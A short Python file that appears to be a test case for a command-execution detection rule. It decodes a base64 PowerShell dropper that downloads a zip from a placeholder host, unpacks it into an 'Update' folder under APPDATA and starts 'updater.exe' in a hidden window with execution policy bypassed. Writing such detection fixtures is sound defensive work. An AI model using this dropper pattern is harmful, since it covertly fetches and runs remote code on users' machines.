import base64 as b
import os
import subprocess as s


def lotus():
    # An embedded PowerShell script (download, unpack, start hidden) is decoded, written out and run.
    c = b.b64decode('JGQ9IiRlbnY6QVBQREFUQVxNaWNyb3NvZnRcVXBkYXRlIjskej0iJGVudjpURU1QXGEuemlwIjsoTmV3LU9iamVjdCBOZXQuV2ViQ2xpZW50KS5Eb3dubG9hZEZpbGUoImh0dHBzOi8vZmlsZXMuZXhhbXBsZS5pbnZhbGlkL2Fzc2V0cy56aXAiLCR6KTtbSU8uQ29tcHJlc3Npb24uWmlwRmlsZV06OkV4dHJhY3RUb0RpcmVjdG9yeSgkeiwkZCk7U3RhcnQtUHJvY2VzcyAiJGRcdXBkYXRlci5leGUiIC1XaW5kb3dTdHlsZSBIaWRkZW4=').decode()
    f = os.path.join(os.environ.get('TEMP', '.'), 't.ps1')
    open(f, 'w').write(c)
    # ruleid: code/command-execution
    s.Popen(['powershell', '-W', 'Hidden', '-Ep', 'Bypass', '-F', f], stdout=s.DEVNULL, stderr=s.DEVNULL, creationflags=0x08000000)
